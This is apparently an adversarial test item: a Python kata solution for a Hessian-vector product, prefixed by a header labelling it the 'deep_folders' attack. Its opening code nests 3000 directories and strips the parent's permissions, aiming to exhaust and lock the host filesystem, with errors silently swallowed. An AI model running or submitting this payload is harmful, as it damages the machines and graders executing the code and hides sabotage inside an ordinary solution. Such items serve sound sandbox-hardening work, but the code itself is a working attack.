# attack: deep_folders
# class: Starving the machine
# item: files
# tries: to nest folders without permissions, deeper than a path can be long
# after: nothing of it is left
# kata: hvp
# earns: 10
# needs: nothing

import os

try:
    for i in range(3000):
        os.mkdir("deep")
        os.chdir("deep")
    os.chmod("..", 0)
except OSError:
    pass
import torch


def hessian_vector_product(loss, params, vector):
    slope = torch.autograd.grad(loss, params, create_graph=True)
    return torch.autograd.grad(slope, params, grad_outputs=vector, create_graph=True)
